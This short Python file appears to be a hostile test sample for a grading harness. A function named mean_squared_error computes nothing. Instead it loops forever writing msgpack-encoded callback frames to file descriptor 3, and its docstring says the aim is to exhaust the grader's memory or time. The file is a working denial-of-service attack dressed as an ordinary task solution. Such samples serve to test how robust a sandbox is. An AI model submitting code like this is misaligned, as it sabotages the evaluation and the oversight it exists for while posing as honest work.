"""Floods the grader with callbacks and frames as fast as the socket takes them.

Harm: the grader's memory or time.
Costs: nothing
"""

# %% honest work
# %% hostile
import os
import struct


def mean_squared_error(y, y_hat):
    import msgspec

    call = {"type": "Callback", "id": 1, "callback": 0, "case": [[], {}]}
    header = msgspec.msgpack.encode(call)
    frame = struct.pack(">II", len(header), 0) + header
    while True:
        os.write(3, frame * 500)
